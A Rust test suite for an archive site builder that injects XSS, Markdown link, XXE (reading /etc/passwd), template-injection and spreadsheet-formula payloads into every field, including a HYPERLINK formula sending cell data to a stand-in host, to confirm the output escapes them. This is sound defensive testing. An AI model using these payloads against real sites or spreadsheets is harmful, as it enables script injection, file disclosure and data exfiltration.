//! What acts in a page, in a spreadsheet or in a template, planted in every place where an archive can say something: nothing of it is
//! alive in the site.

mod support;

use memcon::diagnostic::{Diagnostics, Severity};
use memcon::search::in_words;
use memcon::source::{self, DocumentSource, Sources, TextFile};
use std::collections::{BTreeMap, BTreeSet};
use support::alive::{acts, alive, in_html};
use support::archive::{archive, built};
use support::every_field::{Field, Fields};
use support::everything::everything;
use support::fixtures::only;
use support::{Specimen, csv, html, load};

/// What would act as markup, wherever it is put without being escaped; each in the way of a reader that was left in the middle.
const MARKUP: &str = "\"><img data-planted src=x onerror=planted()>'><svg onload=planted()></title></script></style></textarea>\
    <script>planted()</script>--><script>planted()</script>]]><script>planted()</script><base href=https://planted.invalid/>\
    <iframe srcdoc='<script>planted()</script>'></iframe><a href='javascript:planted()' data-planted>x</a>\
    <math><mtext><style><img onerror=planted()></style></mtext></math><meta http-equiv=refresh content='0;url=javascript:planted()'>\
    &lt;img onerror=planted()&gt; \\u003cscript\\u003eplanted()\\u003c/script\\u003e \u{2028} \u{2029} \u{202e} \
    <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; &#0; \u{1} planted{{ 7*7 }} {% include \"x\" %} ${planted()} __proto__";

/// An address that acts, and Markdown that makes links of such.
const ADDRESS: &str = "javascript:planted()";
const MARKDOWN: &str = "[planted](data:text/html,<script>planted()</script>) [planted](javascript:planted()) ![planted](x\"onerror=\"planted()) <javascript:planted()> [planted](java\tscript:planted())";

/// What a spreadsheet takes for a formula.
const FORMULA: &str = "=HYPERLINK(\"https://planted.invalid/?\"&A1)";

/// What is wrong with an archive.
fn errors(sources: &Sources) -> Vec<String> {
    let mut diagnostics = Diagnostics::new();
    memcon::compile(sources, &mut diagnostics);
    let found = diagnostics.sorted();
    let errors = found.iter().filter(|it| it.severity == Severity::Error);
    errors
        .map(|it| format!("{}:{}: {}", it.place.file, it.place.line, it.message))
        .collect()
}

/// Where a record quotes the words it withholds: other words there withhold something else.
fn is_withheld(name: &str) -> bool {
    ["withhold.from", "withhold.to", "withhold.name"]
        .iter()
        .any(|key| name.ends_with(key))
}

/// These take some words and not others: offices with their years, labels that the document has.
const SOME: &[&str] = &[
    "content/documents/talk.toml: not_labels",
    "content/people.csv: roles",
];

/// The places that take any words or at least some, and those that take none but their own.
fn places(fields: &Fields) -> (Vec<Field>, Vec<Field>) {
    let all = fields.all().into_iter();
    let all = all.filter(|field| !is_withheld(&fields.name(field)));
    all.partition(|field| !BOUND.contains(&fields.name(field).as_str()))
}

/// The archive with words in every place that takes any.
fn planted(words: impl Fn(usize) -> String) -> Fields {
    let plain = everything();
    let (free, _) = places(&plain);
    let mut all = plain.clone();
    let mut some = Vec::new();
    for (n, field) in free.iter().enumerate() {
        if SOME.contains(&plain.name(field).as_str()) {
            some.push((n, field));
        } else {
            all = all.with(field, &words(n));
        }
    }
    let folder = all.written();
    assert_eq!(errors(&load(folder.path())), [""; 0], "{}", words(0));
    for (n, field) in some {
        let changed = all.with(field, &words(n));
        changed.write(folder.path());
        if errors(&load(folder.path())).is_empty() {
            all = changed;
        }
    }
    all
}

fn site_of(fields: &Fields) -> Specimen {
    built(fields.written().path())
}

/// What the reader of TOML, of tables or of a page's head knows: the names it lists when it meets one it does not know.
fn known(sources: &Sources) -> BTreeSet<String> {
    let mut diagnostics = Diagnostics::new();
    memcon::compile(sources, &mut diagnostics);
    let found = diagnostics.sorted();
    let told = found.iter().flat_map(|it| [&it.message, &it.help]);
    let mut listed = told.filter_map(|text| text.split_once("known here are "));
    let (_, names) = listed
        .next_back()
        .unwrap_or_else(|| panic!("{:?}", errors(sources)));
    let names = names.split([',', ' ']).map(|name| name.trim_matches('`'));
    let names = names.filter(|name| !["", "or", "and"].contains(name));
    names.map(str::to_owned).collect()
}

fn file(path: &str, text: &str) -> TextFile {
    TextFile {
        path: path.to_owned(),
        text: text.to_owned(),
    }
}

/// A table of a file, by a head that makes the reader list what it knows there.
fn sources_with(path: &str, text: &str) -> Sources {
    let none = only(Vec::new());
    let file = Some(file(path, text));
    match path {
        "site.toml" => Sources {
            config: file,
            ..none
        },
        "content/people.toml" => Sources {
            people: file,
            ..none
        },
        "content/glossary.toml" => Sources {
            glossary: file,
            ..none
        },
        "content/changes.toml" => Sources {
            changes: file,
            ..none
        },
        "content/pages/about.md" => Sources {
            pages: file.into_iter().collect(),
            ..none
        },
        _ => {
            let talk = b"Ann: Yes.\n\nBen: No.\n".to_vec();
            let mut talk = source::document_bytes("content/documents/talk.txt", talk).unwrap();
            talk.record = file;
            only(vec![talk])
        }
    }
}

#[test]
fn every_key_there_is_stands_in_the_archive_that_says_everything() {
    let fields = everything();
    let mut said: BTreeSet<String> = BTreeSet::new();
    for field in fields.all() {
        said.insert(fields.name(&field));
    }
    // What is no text.
    let numbers = [
        "export",
        "export.akoma_ntoso",
        "export.opensearch",
        "export.sqlite",
        "export.leave_out",
        "occurrence",
        "from_occurrence",
        "to_occurrence",
    ];
    for (path, table) in [
        ("site.toml", ""),
        ("site.toml", "[edition]\nname = \"x\""),
        ("site.toml", "[citations]"),
        ("site.toml", "[export]"),
        ("site.toml", "[pages]"),
        ("site.toml", "[search]"),
        ("site.toml", "[theme]"),
        ("site.toml", "[[menu]]\ntitle = \"x\""),
        ("content/documents/talk.toml", ""),
        ("content/documents/talk.toml", "[provenance]"),
        ("content/documents/talk.toml", "[[participant]]"),
        ("content/documents/talk.toml", "[[change]]"),
        ("content/documents/talk.toml", "[[conversation]]"),
        ("content/documents/talk.toml", "[[exclude]]"),
        ("content/documents/talk.toml", "[[attribution]]"),
        ("content/documents/talk.toml", "[[continue]]"),
        ("content/documents/talk.toml", "[[split]]"),
        ("content/documents/talk.toml", "[[merge]]"),
        ("content/documents/talk.toml", "[[correction]]"),
        ("content/documents/talk.toml", "[[paragraph]]"),
        ("content/documents/talk.toml", "[[note]]"),
        ("content/documents/talk.toml", "[[withhold]]"),
        ("content/people.toml", "[[person]]"),
        (
            "content/people.toml",
            "[[person]]\nname = \"x\"\n[[person.role]]",
        ),
        ("content/glossary.toml", "[[term]]"),
        ("content/changes.toml", "[[change]]"),
    ] {
        let inside = table.rsplit('[').next().unwrap_or("");
        let inside = inside.split(']').next().unwrap_or("");
        let text = format!("{table}\nzzzzzz = 1\n");
        for key in known(&sources_with(path, &text)) {
            let name = if inside.is_empty() {
                key.clone()
            } else {
                format!("{inside}.{key}")
            };
            // Records say some things in documents of their own.
            let is_said = said.iter().any(|it| {
                let (file, keys) = it.split_once(": ").unwrap();
                let is_file = file == path
                    || [path, file]
                        .iter()
                        .all(|it| it.starts_with("content/documents/"));
                is_file && (keys == name || keys.starts_with(&format!("{name}.")))
            });
            let is_number = numbers.iter().any(|it| *it == name || *it == key);
            assert!(is_said || is_number, "{path}: {name}");
        }
    }
    let head = known(&sources_with(
        "content/pages/about.md",
        "---\ntitle: A\nzzzzzz: 1\n---\n",
    ));
    for key in head {
        assert!(
            said.contains(&format!("content/pages/about.md: {key}")),
            "{key}"
        );
    }
}

/// These say one of a few words, a day, an address, a name given elsewhere, or quote their document.
const BOUND: &[&str] = &[
    "content/changes.toml: change.date",
    "content/changes.toml: change.document",
    "content/changes.toml: change.turn",
    "content/corrections.csv: document",
    "content/corrections.csv: occurrence",
    "content/corrections.csv: printed",
    "content/corrections.csv: what",
    "content/corrections.csv: when",
    "content/corrections.csv: words",
    "content/documents.csv: added",
    "content/documents.csv: date",
    "content/documents.csv: id",
    "content/documents.csv: nature",
    "content/documents.csv: status",
    "content/documents/article.toml: continue.at",
    "content/documents/one-side.toml: conversation",
    "content/documents/other-side.toml: conversation",
    "content/documents/other-side.toml: counterpart.at",
    "content/documents/other-side.toml: counterpart.document",
    "content/documents/other-side.toml: counterpart.there",
    "content/documents/other-side.toml: counterpart.there_turn",
    "content/documents/other-side.toml: counterpart.turn",
    "content/documents/talk.toml: added",
    "content/documents/talk.toml: ark",
    "content/documents/talk.toml: attribution.at",
    "content/documents/talk.toml: attribution.person",
    "content/documents/talk.toml: change.date",
    "content/documents/talk.toml: change.turn",
    "content/documents/talk.toml: conversation.date",
    "content/documents/talk.toml: conversation.from",
    "content/documents/talk.toml: conversation.participants",
    "content/documents/talk.toml: conversation.to",
    "content/documents/talk.toml: correction.at",
    "content/documents/talk.toml: correction.date",
    "content/documents/talk.toml: correction.sic",
    "content/documents/talk.toml: date",
    "content/documents/talk.toml: doi",
    "content/documents/talk.toml: exclude.from",
    "content/documents/talk.toml: exclude.to",
    "content/documents/talk.toml: handle",
    "content/documents/talk.toml: image",
    "content/documents/talk.toml: labels",
    "content/documents/talk.toml: merge.at",
    "content/documents/talk.toml: note.at",
    "content/documents/talk.toml: paragraph.at",
    "content/documents/talk.toml: participant.person",
    "content/documents/talk.toml: provenance.nature",
    "content/documents/talk.toml: source",
    "content/documents/talk.toml: split.at",
    "content/documents/talk.toml: split.label",
    "content/documents/talk.toml: split.person",
    "content/documents/talk.toml: status",
    "content/documents/talk.toml: status_date",
    "content/documents/withheld.toml: convention",
    "content/pages/about.md: in_menu",
    "content/pages/about.md: kind",
    "content/pages/about.md: language",
    "content/pages/about.md: order",
    "content/people.csv: labels_in",
    "content/people.csv: same_as",
    "content/people.toml: person.id",
    "content/people.toml: person.portrait",
    "content/people.toml: person.same_as",
    "site.toml: base_url",
    "site.toml: citations.styles",
    "site.toml: contact",
    "site.toml: earlier_base_urls",
    "site.toml: edition.date",
    "site.toml: language",
    "site.toml: menu.page",
    "site.toml: menu.url",
    "site.toml: pages.html",
    "site.toml: search.engine",
    "site.toml: theme.accent",
    "site.toml: theme.ink",
    "site.toml: theme.line",
    "site.toml: theme.logo",
    "site.toml: theme.mark",
    "site.toml: theme.paper",
    "site.toml: theme.quiet",
    "site.toml: theme.raised",
    "site.toml: theme.rule",
    "site.toml: theme.speakers",
];

#[test]
fn what_is_no_free_text_takes_nothing_that_acts() {
    let fields = everything();
    let folder = fields.written();
    let (_, bound) = places(&fields);
    let names: BTreeSet<String> = bound.iter().map(|field| fields.name(field)).collect();
    assert!(names.iter().eq(BOUND), "{names:?}");
    for field in &bound {
        fields.with(field, ADDRESS).write(folder.path());
        let errors = errors(&load(folder.path()));
        assert_ne!(errors, [""; 0], "{}", fields.name(field));
    }
}

#[test]
fn nothing_planted_is_alive() {
    for words in [MARKUP, ADDRESS, MARKDOWN] {
        let site = site_of(&planted(|_| words.to_owned()));
        assert_eq!(alive(&site.files), [""; 0], "{words}");
        let n_files = site.files.len();
        assert!(n_files > 150, "{n_files}");
        // It is there as text, and as it was written.
        let home = site.page("index.html");
        assert!(
            html::elements(home)
                .iter()
                .any(|it| it.text.contains("planted")),
            "{words}"
        );
        for (path, page) in site.texts("html") {
            assert!(!page.contains("planted49"), "{path}");
        }
        if words == MARKUP {
            let template = "planted{{ 7*7 }} {% include \"x\" %} ${planted()}";
            let home = html::elements(home);
            assert!(home.iter().any(|it| it.text.contains(template)));
        }
    }
}

#[test]
fn no_cell_of_any_table_is_a_formula() {
    for words in [FORMULA, "\t=planted", "\r=planted"] {
        let site = site_of(&planted(|_| words.to_owned()));
        let mut n_planted = 0;
        for (path, text) in site.texts("csv") {
            for cell in csv::rows(text).iter().flatten() {
                let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
                assert!(!begins, "{path}: {cell:?}");
                n_planted += usize::from(cell.starts_with('\'') && cell.contains("planted"));
            }
        }
        assert!(n_planted > 8, "{words:?}: {n_planted}");
    }
}

#[test]
fn what_is_alive_is_found() {
    for page in [
        "<p onclick=x>",
        "<p style=x>",
        "<style>",
        "<script>x</script>",
        "<script src='https://planted.invalid/x.js'></script>",
        "<a href=' java\tscript:x'>",
        "<img src=data:image/png,x>",
        "<p data-planted>",
        "<iframe>",
        "<form action=javascript:x>",
        "<meta http-equiv=refresh content='0;url=https://planted.invalid'>",
        "<script type='application/ld+json'>{\"a\": \"</b>\"}</script>",
    ] {
        assert_ne!(in_html(page), [""; 0], "{page}");
    }
    let of = |path: &str, text: &str| alive(&BTreeMap::from([(path.to_owned(), text.into())]));
    for (path, text) in [
        ("a.xml", "<!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>"),
        ("a.xml", "<a href='javascript:x'/>"),
        ("a.xml", "<a><b></a>"),
        ("a.svg", "<svg onload='x'/>"),
        ("a.svg", "<svg><script/></svg>"),
        ("search/a.js", "memconSearch.add(\"a\", \"</script>\");"),
        ("search/a.js", "memconSearch.add(\"a\", \"\u{2028}\");"),
        ("search/a.js", "memconSearch.add(\"a\", {}); x()"),
        ("a.json", "{\"a\": x}"),
    ] {
        assert_ne!(of(path, text), [""; 0], "{path}: {text}");
    }
    assert!(acts("JavaScript:x") && !acts("https://a.example/javascript:"));
    assert_eq!(
        of("a.xml", "<a href='https://a.example/'>&amp;</a>"),
        [""; 0]
    );
}

/// A page that somebody saved is published as it was received, and read as text: its scripts would act as if they were the archive's.
#[test]
fn files_as_received_are_there_and_no_browser_runs_them() {
    let site = site_of(&everything());
    for (name, file) in [
        ("saved", "documents/saved.received-htm.txt"),
        ("saved-too", "documents/saved-too.received-xhtml.txt"),
    ] {
        let saved = site.page(file);
        assert!(saved.contains("<script>planted()</script>"), "{name}");
    }
    for path in site.files.keys().filter(|path| path.contains(".received")) {
        let ending = path.rsplit('.').next().unwrap_or("");
        let runs = ["html", "htm", "xhtml", "xml", "svg", "ttml", "php", "mht"];
        assert!(!runs.contains(&ending), "{path}");
    }
}

/// Whoever publishes may want more than plain formatting in pages of their own, and says so. The policy of the page stays.
#[test]
fn html_in_pages_is_cleaned_unless_the_owner_says_otherwise() {
    let words = "# A page\n\n<video src=\"../static/a.webm\" onplay=\"planted()\"></video> <span style=\"x\">red</span>\n";
    let with = |settings: &str| {
        let files = [
            ("site.toml", settings),
            ("content/documents/talk.txt", "Ann: Yes.\n\nBen: No.\n"),
            ("content/pages/a.md", words),
        ];
        built(archive(&files).path()).page("a.html").to_owned()
    };
    for settings in ["", "[pages]\nhtml = \"cleaned\"\n"] {
        let page = with(settings);
        assert_eq!(in_html(&page), [""; 0]);
        assert!(!page.contains("<video") && page.contains("red"));
    }
    let page = with("[pages]\nhtml = \"as-written\"\n");
    assert!(
        page.contains("<video src=\"../static/a.webm\" onplay=\"planted()\">"),
        "{page}"
    );
    let policies = html::elements(&page).into_iter().filter(|it| {
        let content = it.get("content").unwrap_or("");
        content.contains("script-src 'self'") && !content.contains("unsafe")
    });
    assert_eq!(policies.count(), 1);
}

/// A name of its own for each place, with letters that formats write in ways of their own.
fn secret(n: usize) -> String {
    let letter = |n: usize| char::from(b'a' + u8::try_from(n % 26).unwrap());
    format!("Quéntin & Marlo{}{}w'", letter(n / 26), letter(n))
}

/// Wherever words come to stand that a record withholds, the build finds them in what it is about to write.
#[test]
fn withheld_words_are_found_wherever_they_were_said() {
    let fields = planted(secret);
    let (free, _) = places(&fields);
    let names = free.iter().map(|field| fields.name(field));
    let planted: Vec<(String, String)> = names
        .enumerate()
        .map(|(n, name)| (name, secret(n)))
        .collect();
    let site = site_of(&fields);
    let letters = |text: &str| -> String {
        let letters = text.chars().filter(|c| c.is_alphanumeric());
        letters.flat_map(char::to_lowercase).collect()
    };
    let texts: Vec<(&String, &Vec<u8>, String)> = site
        .files
        .iter()
        // A database writes one text after the other, without anything between them; all of them stand in the tables beside it.
        .filter(|(path, _)| *path != "data/archive.sqlite")
        .map(|(path, bytes)| (path, bytes, letters(&String::from_utf8_lossy(bytes))))
        .collect();
    let mut n_said = 0;
    for (name, words) in &planted {
        let quoted = memcon::diagnostic::toml_string(words);
        let record = format!("[[withhold]]\nname = {quoted}\n");
        let talk = format!("Ann: {words} came.\n\nBen: Yes.\n");
        let talk = source::document_bytes("content/documents/a.txt", talk.into_bytes()).unwrap();
        let talk = DocumentSource {
            record: Some(file("content/documents/a.toml", &record)),
            ..talk
        };
        let guard = memcon::compile(&only(vec![talk]), &mut Diagnostics::new());
        let said = texts
            .iter()
            .filter(|(_, _, text)| text.contains(&letters(words)));
        let mut is_said = false;
        for (path, bytes, _) in said {
            is_said = true;
            let is_data = path.starts_with("search/");
            let bytes = if is_data { in_words(bytes) } else { bytes };
            assert!(guard.withheld.leak(bytes).is_some(), "{name} in {path}");
        }
        n_said += usize::from(is_said);
    }
    assert!(n_said > 90, "{n_said} of {}", planted.len());
}
